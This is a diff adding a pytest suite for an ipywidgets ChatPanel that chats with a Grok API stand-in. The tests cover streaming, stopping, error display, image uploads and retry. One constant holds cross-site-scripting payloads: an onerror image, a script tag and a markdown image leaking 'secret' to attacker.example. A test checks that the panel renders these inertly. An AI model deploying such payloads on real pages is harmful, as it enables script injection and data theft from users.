@@ -1,0 +1,458 @@
+"""ChatPanel without a browser: widgets driven by value changes and .click(), against the stand-in."""
+
+from __future__ import annotations
+
+import _thread
+import datetime
+import io
+import threading
+import time
+from unittest import mock
+
+import ipywidgets as widgets
+import pytest
+from xai_standin import Fault, Reply
+
+from grok_magic.client import GrokClient
+from grok_magic.conversation import Conversation
+from grok_magic.errors import (
+    BadRequestError,
+    InputError,
+    InterruptedByUser,
+    MissingKeyError,
+    StreamInterruptedError,
+)
+from grok_magic.panel import AnswerView, ChatPanel
+from grok_magic.settings import Settings
+
+SLOW_TEXT = " ".join(f"word{i}" for i in range(400))  # ~400 events: 20 s at 0.05 s each
+XSS = (
+    'Look: <img src=x onerror="window.__grok_xss=1"> and <script>window.__grok_xss=2</script> '
+    "**bold** ![leak](https://attacker.example/p.png?q=secret)"
+)
+
+
+def wait_until(condition, timeout: float = 10.0) -> None:
+    deadline = time.monotonic() + timeout
+    while not condition():
+        if time.monotonic() > deadline:
+            raise AssertionError("condition not met in time")
+        time.sleep(0.01)
+
+
+def all_widgets(root: widgets.Widget) -> list[widgets.Widget]:
+    """`root` and every widget inside it, in document order."""
+    found = [root]
+    for child in getattr(root, "children", ()):
+        found += all_widgets(child)
+    return found
+
+
+def by_class(panel: ChatPanel, css_class: str) -> list[widgets.Widget]:
+    return [w for w in all_widgets(panel.widget) if css_class in getattr(w, "_dom_classes", ())]
+
+
+def shown_markdown(panel: ChatPanel) -> str:
+    """Every Markdown block of the last answer, joined."""
+    view = panel._last.answer_view
+    return "".join(o.outputs[0]["data"]["text/markdown"] for o in view.block_widgets if o.outputs)
+
+
+def png_bytes(size=(40, 30), color=(200, 30, 30)) -> bytes:
+    from PIL import Image
+
+    out = io.BytesIO()
+    Image.new("RGB", size, color).save(out, format="PNG")
+    return out.getvalue()
+
+
+def upload_entry(name: str, data: bytes, mime: str = "image/png") -> dict:
+    return {"name": name, "type": mime, "size": len(data), "content": memoryview(data),
+            "last_modified": datetime.datetime.now(datetime.timezone.utc)}
+
+
+@pytest.fixture
+def panel(xai_env) -> ChatPanel:
+    p = ChatPanel(model="grok-4.3", models=["grok-4.3", "grok-3-mini"])
+    yield p
+    if p.busy:
+        p.stop()
+        p.wait(5)
+
+
+# -- one turn ------------------------------------------------------------------------------
+def test_send_streams_markdown_and_returns_the_response(panel, xai_env):
+    xai_env.enqueue(Reply(content="Hello **world**\n\nSecond paragraph."))
+    response = panel.send("Hi there")
+    assert response.text == "Hello **world**\n\nSecond paragraph." and response.complete
+    assert panel.conversation.messages == [
+        {"role": "user", "content": "Hi there"},
+        {"role": "assistant", "content": response.text},
+    ]
+    assert "Hello **world**" in shown_markdown(panel)
+    user, answer = panel.transcript.children
+    assert "grok-user" in user._dom_classes and "grok-answer" in answer._dom_classes
+    assert not panel.busy and not panel.send_button.disabled and panel.stop_button.disabled
+    assert panel.error is None and panel.error_box.layout.display == "none"
+
+
+def test_usage_widget_after_each_answer_and_panel_totals(panel, xai_env):
+    first = panel.send("one")
+    second = panel.send("two")
+    usages = by_class(panel, "grok-usage")
+    assert len(usages) == 2
+    assert f"{second.usage.total_tokens:,}" in usages[-1].value
+    total = first.usage.total_tokens + second.usage.total_tokens
+    assert panel.totals.total_tokens == total
+    assert panel.total_cost == pytest.approx(first.cost + second.cost)
+    assert f"{total:,} tokens" in panel.totals_view.value and "2 answers" in panel.totals_view.value
+    assert f"session</b> {total:,} tokens" in usages[-1].value
+
+
+def test_model_and_system_prompt_are_sent(panel, xai_env):
+    panel.model = "grok-3-mini"
+    panel.system_box.value = "Answer in French."
+    panel.send("Hi")
+    body = xai_env.chat_requests[-1].json
+    assert body["model"] == "grok-3-mini" and body["stream"] is True
+    assert body["messages"][0] == {"role": "system", "content": "Answer in French."}
+    assert panel.conversation.system is None  # the field is per request, not stored
+
+
+def test_second_turn_carries_the_history(panel, xai_env):
+    panel.send("first")
+    panel.send("second")
+    roles = [m["role"] for m in xai_env.chat_requests[-1].json["messages"]]
+    assert roles == ["user", "assistant", "user"]
+
+
+def test_reasoning_is_shown_collapsed_as_plain_text(panel, xai_env):
+    xai_env.enqueue(Reply(content="Answer", reasoning="<b>thinking</b> hard"))
+    panel.send("why?")
+    (accordion,) = by_class(panel, "grok-reasoning")
+    assert accordion.selected_index is None
+    assert accordion.children[0].outputs[0] == {
+        "output_type": "stream", "name": "stdout", "text": "<b>thinking</b> hard"}
+
+
+# -- the Send button: off the main thread, no double sends ---------------------------------
+def test_send_click_returns_at_once_and_disables_send(panel, xai_env):
+    xai_env.enqueue(Reply(content="a b c d e f g h", delay=0.05))
+    panel.input.value = "Hello"
+    started = time.monotonic()
+    panel.send_button.click()
+    assert time.monotonic() - started < 0.5
+    assert panel.busy and panel.send_button.disabled and not panel.stop_button.disabled
+    assert panel.input.value == ""  # the question moved to the transcript
+    panel.send_button.click()  # a second click while streaming does nothing
+    with pytest.raises(InputError, match="still streaming"):
+        panel.send("again")
+    response = panel.wait(10)
+    assert response.text == "a b c d e f g h"
+    assert len(xai_env.chat_requests) == 1
+    assert not panel.send_button.disabled and panel.stop_button.disabled
+    assert not panel.retry_button.disabled
+
+
+def test_widgets_are_updated_from_the_worker_thread_without_output_capture(panel, xai_env):
+    xai_env.enqueue(Reply(content="x " * 20, delay=0.02))
+    threads = set()
+    original = AnswerView._set
+
+    def spy(self, text):
+        threads.add(threading.current_thread().name)
+        return original(self, text)
+
+    with mock.patch.object(AnswerView, "_set", spy):
+        panel.send("go")
+    assert threads == {"grok-panel-answer"}
+    outputs = [w for w in all_widgets(panel.widget) if isinstance(w, widgets.Output)]
+    assert outputs and all(o.msg_id == "" for o in outputs)  # `with output:` would set msg_id
+
+
+def test_updates_are_throttled_and_finished_blocks_frozen(panel, xai_env):
+    text = "\n\n".join(f"Paragraph {i} " + "word " * 10 for i in range(150))
+    xai_env.enqueue(Reply(content=text, delay=0.0005))
+    started = time.monotonic()
+    panel.send("long")
+    elapsed = time.monotonic() - started
+    view = panel._last.answer_view
+    assert view.updates <= elapsed / 0.1 + 5  # ~10 updates a second at most
+    assert len(view.block_widgets) > 1  # finished paragraphs were frozen
+    assert shown_markdown(panel) == text
+
+
+def test_frozen_blocks_are_grouped_so_each_addition_stays_small():
+    now = [0.0]
+    view = AnswerView(clock=lambda: now[0])
+    paragraphs = [f"Paragraph {i}: " + "lorem ipsum " * 20 for i in range(40)]
+    for paragraph in paragraphs:
+        now[0] += 0.2  # every delta is past the throttle
+        view.feed(paragraph + "\n\n")
+    view.finish()
+    groups = view.blocks.children
+    assert len(view.block_widgets) == 41 and len(groups) == 3
+    assert all(len(g.children) <= 16 for g in groups)
+    assert "".join(b.outputs[0]["data"]["text/markdown"] for b in view.block_widgets if b.outputs) \
+        == "".join(p + "\n\n" for p in paragraphs)
+    assert view.updates == 41
+
+
+# -- Stop -----------------------------------------------------------------------------------
+def test_stop_mid_stream_keeps_the_partial_answer_marked_stopped(panel, xai_env):
+    xai_env.enqueue(Reply(content=SLOW_TEXT, delay=0.05))
+    panel.input.value = "Tell me a long story"
+    panel.send_button.click()
+    wait_until(lambda: "word3" in shown_markdown(panel))
+    started = time.monotonic()
+    panel.stop_button.click()
+    response = panel.wait(10)
+    assert time.monotonic() - started < 2
+    assert response.stopped and response.partial
+    assert response.text and response.text != SLOW_TEXT
+    assert response.text.strip() in shown_markdown(panel)
+    (note,) = by_class(panel, "grok-stopped")
+    assert "Stopped" in note.value
+    assert panel.conversation.messages == []  # a partial answer never joins the history
+    assert panel.error is None and panel.input.value == ""
+    assert not panel.send_button.disabled
+
+
+def test_stop_while_waiting_for_the_first_byte(panel, xai_env):
+    xai_env.enqueue(Reply(content="late answer", first_delay=0.5))
+    panel.input.value = "q"
+    panel.send_button.click()
+    time.sleep(0.1)
+    panel.stop()
+    response = panel.wait(10)
+    assert response.stopped and "late answer" not in response.text
+
+
+def test_kernel_interrupt_stops_a_blocking_send(panel, xai_env):
+    xai_env.enqueue(Reply(content=SLOW_TEXT, delay=0.05))
+    timer = threading.Timer(0.6, _thread.interrupt_main)
+    timer.start()
+    try:
+        with pytest.raises(InterruptedByUser) as info:
+            panel.send("long please")
+    finally:
+        timer.cancel()
+    assert info.value.response.stopped
+    assert by_class(panel, "grok-stopped")
+
+
+# -- errors ---------------------------------------------------------------------------------
+def test_http_error_is_one_paragraph_and_the_text_stays_in_the_input(panel, xai_env):
+    xai_env.enqueue(Fault.credits(429))
+    panel.input.value = "my careful question"
+    panel.send_button.click()
+    panel.wait(10)
+    assert panel.input.value == "my careful question"
+    assert panel.transcript.children == ()  # nothing arrived: the turn went back to the input
+    assert "Out of credits (HTTP 429)" in panel.error_box.value
+    assert panel.error_box.value.count("<p") == 1
+    assert panel.error_box.layout.display != "none"
+    assert not panel.send_button.disabled
+    xai_env.enqueue(Reply(content="fine now"))
+    panel.send_button.click()
+    assert panel.wait(10).text == "fine now"
+    assert panel.error_box.layout.display == "none"
+
+
+def test_missing_key_shows_how_to_set_one(xai_env, monkeypatch):
+    monkeypatch.delenv("XAI_API_KEY")
+    panel = ChatPanel(models=["grok-4"])
+    panel.input.value = "hello?"
+    panel.send_button.click()
+    panel.wait(10)
+    assert isinstance(panel.error, MissingKeyError)
+    assert "XAI_API_KEY" in panel.error_box.value and panel.input.value == "hello?"
+    monkeypatch.setenv("XAI_API_KEY", xai_env.api_key)  # a key set later is picked up
+    panel.send_button.click()
+    assert panel.wait(10).complete
+
+
+def test_programmatic_send_raises_the_error_after_showing_it(panel, xai_env):
+    xai_env.enqueue(Fault(400, {"code": "x", "error": "Bad <b>thing</b>"}))
+    with pytest.raises(BadRequestError):
+        panel.send("q")
+    assert "Bad &lt;b&gt;thing&lt;/b&gt;" in panel.error_box.value
+    assert panel.input.value == ""  # only text typed in the input goes back there
+
+
+def test_stream_cut_mid_answer_keeps_partial_text_marked_incomplete(panel, xai_env):
+    xai_env.enqueue(Reply(content="one two three four five six", cut_after=4))
+    panel.input.value = "q"
+    panel.send_button.click()
+    panel.wait(10)
+    assert isinstance(panel.error, StreamInterruptedError)
+    (note,) = by_class(panel, "grok-incomplete")
+    assert "Incomplete" in note.value and "one" in shown_markdown(panel)
+    assert panel.input.value == "q" and panel.conversation.messages == []
+
+
+def test_send_of_nothing_is_refused(panel):
+    panel.send_button.click()
+    assert isinstance(panel.error, InputError) and not panel.busy
+    with pytest.raises(InputError):
+        panel.send("   ")
+
+
+# -- safety ---------------------------------------------------------------------------------
+def test_model_html_never_reaches_the_page_as_html(panel, xai_env):
+    xai_env.enqueue(Reply(content=XSS))
+    panel.send("hi")
+    markdown = shown_markdown(panel)
+    assert "<script" not in markdown and "<img" not in markdown and "onerror" not in markdown
+    assert "![leak]" not in markdown and "[leak](https://attacker.example" in markdown
+    assert "**bold**" in markdown
+    for w in all_widgets(panel.widget):
+        if isinstance(w, widgets.HTML):
+            assert "__grok_xss" not in w.value and "attacker" not in w.value
+
+
+def test_images_the_user_sent_by_url_may_show(panel, xai_env):
+    url = xai_env.serve_bytes("cat.png", png_bytes(), "image/png").replace("127.0.0.1", "example.com")
+    xai_env.enqueue(Reply(content=f"Here: ![cat]({url}) and ![x](https://other.example/x.png)"))
+    panel.send("look", images=[{"type": "image_url", "image_url": {"url": url}}])
+    markdown = shown_markdown(panel)
+    assert f"![cat]({url})" in markdown and "![x]" not in markdown
+
+
+# -- images ---------------------------------------------------------------------------------
+def test_upload_shows_removable_thumbnails_and_sends_them(panel, xai_env):
+    panel.upload.value = (upload_entry("red.png", png_bytes()),
+                          upload_entry("blue.jpg", png_bytes(color=(0, 0, 200)), "image/jpeg"))
+    assert panel.upload.value == ()
+    thumbs = by_class(panel, "grok-thumb")
+    assert len(thumbs) == 2 and len(panel.pending_images) == 2
+    remove = [w for w in all_widgets(thumbs[1]) if "grok-thumb-remove" in w._dom_classes][0]
+    remove.click()
+    assert len(by_class(panel, "grok-thumb")) == 1
+    panel.input.value = "What colour?"
+    panel.send_button.click()
+    panel.wait(10)
+    assert panel.pending_images == [] and by_class(panel, "grok-thumb") == []
+    content = xai_env.chat_requests[-1].json["messages"][-1]["content"]
+    assert [p["type"] for p in content] == ["text", "image_url"]
+    assert content[1]["image_url"]["url"].startswith("data:image/")
+    (image,) = by_class(panel, "grok-user-image")
+    assert image.format == "png" and bytes(image.value).startswith(b"\x89PNG")
+
+
+def test_upload_of_a_non_image_is_refused_inline(panel):
+    panel.upload.value = (upload_entry("notes.txt", b"hello", "text/plain"),)
+    assert "notes.txt is not a PNG, JPEG, WebP or GIF image" in panel.error_box.value
+    panel.upload.value = (upload_entry("broken.png", b"not really a png"),)
+    assert "broken.png:" in panel.error_box.value
+    assert panel.pending_images == []
+
+
+def test_programmatic_send_with_images(panel, xai_env):
+    response = panel.send("Describe", images=[png_bytes()])
+    assert "I received 1 image(s)" in response.text
+    assert len(by_class(panel, "grok-user-image")) == 1
+
+
+def test_failed_send_gives_the_images_back(panel, xai_env):
+    panel.attach(png_bytes(), name="red.png")
+    panel.input.value = "colour?"
+    xai_env.enqueue(Fault(503))
+    xai_env.enqueue(Fault(503), Fault(503))  # retries too
+    panel.send_button.click()
+    panel.wait(30)
+    assert panel.input.value == "colour?" and len(panel.pending_images) == 1
+
+
+# -- Retry, New chat, Copy ------------------------------------------------------------------
+def test_retry_replaces_the_last_answer(panel, xai_env):
+    xai_env.enqueue(Reply(content="first try"), Reply(content="second try"))
+    panel.send("Question")
+    response = panel.retry()
+    assert response.text == "second try"
+    assert panel.conversation.messages[-1] == {"role": "assistant", "content": "second try"}
+    assert len(panel.conversation.messages) == 2 and len(panel.transcript.children) == 2
+    first, second = xai_env.chat_requests
+    assert first.json["messages"] == second.json["messages"]
+
+
+def test_retry_after_an_error_clears_the_restored_input(panel, xai_env):
+    xai_env.enqueue(Fault(400), Reply(content="ok"))
+    panel.input.value = "retry me"
+    panel.send_button.click()
+    panel.wait(10)
+    assert panel.input.value == "retry me"
+    panel.retry_button.click()
+    assert panel.wait(10).text == "ok"
+    assert panel.input.value == "" and len(panel.conversation.messages) == 2
+
+
+def test_new_chat_clears_turns_but_keeps_totals(panel, xai_env):
+    panel.send("one")
+    tokens = panel.totals.total_tokens
+    panel.new_button.click()
+    assert panel.transcript.children == () and panel.conversation.messages == []
+    assert panel.totals.total_tokens == tokens and panel.retry_button.disabled
+
+
+def test_copy_shows_the_answer_markdown(panel, xai_env):
+    xai_env.enqueue(Reply(content="# Title\n\n`code` and **bold**"))
+    panel.send("md")
+    (copy,) = by_class(panel, "grok-copy")
+    assert by_class(panel, "grok-copy-text") == []
+    copy.click()
+    (text,) = by_class(panel, "grok-copy-text")
+    assert text.value == "# Title\n\n`code` and **bold**"
+    copy.click()
+    assert text.layout.display == "none"
+
+
+# -- construction ---------------------------------------------------------------------------
+def test_model_picker_lists_models_when_reachable(xai_env):
+    panel = ChatPanel(model="grok-4")
+    panel._models_thread.join(10)
+    assert panel.model == "grok-4"
+    assert "grok-4.3" in panel.model_picker.options and "grok-3-mini" in panel.model_picker.options
+
+
+def test_model_picker_keeps_the_default_when_unreachable():
+    client = GrokClient(Settings.load(api_key="xai-test", base_url="http://127.0.0.1:9", max_retries=0))
+    panel = ChatPanel(client=client)
+    panel._models_thread.join(10)
+    assert panel.model_picker.options == ("grok-4",)
+
+
+def test_shared_conversation_shows_its_history_and_grows(xai_env):
+    convo = Conversation(system="Be brief.")
+    convo.messages += [{"role": "user", "content": "earlier"},
+                       {"role": "assistant", "content": "earlier **answer**"}]
+    panel = ChatPanel(conversation=convo, models=["grok-4"])
+    assert panel.system == "Be brief." and len(panel.transcript.children) == 2
+    panel.send("now")
+    assert panel.conversation is convo and len(convo.messages) == 4
+    assert xai_env.chat_requests[-1].json["messages"][0]["content"] == "Be brief."
+
+
+def test_panel_displays_as_a_widget(panel):
+    bundle = panel._repr_mimebundle_()
+    assert bundle["application/vnd.jupyter.widget-view+json"]["model_id"] == panel.widget.model_id
+    assert bundle["text/plain"].startswith("<ChatPanel")
+    for css in ("grok-panel", "grok-input", "grok-send", "grok-stop", "grok-transcript", "grok-upload",
+                "grok-model", "grok-system", "grok-new", "grok-retry", "grok-error"):
+        assert by_class(panel, css), css
+
+
+def test_grok_chat_magic_shows_a_panel_sharing_the_conversation(xai_env):
+    from IPython.core.interactiveshell import InteractiveShell
+
+    from grok_magic.magics import GrokMagics
+
+    shell = InteractiveShell.instance()
+    magics = GrokMagics(shell=shell)
+    shell.register_magics(magics)  # the registered instance is the one %grok calls
+    panel = shell.run_line_magic("grok", "chat")
+    assert isinstance(panel, ChatPanel) and shell.user_ns["_grok_panel"] is panel
+    assert panel.conversation is magics.conversation
+    panel._models_thread.join(10)
+    panel.send("hello from the panel")
+    assert magics.conversation.turns == 1
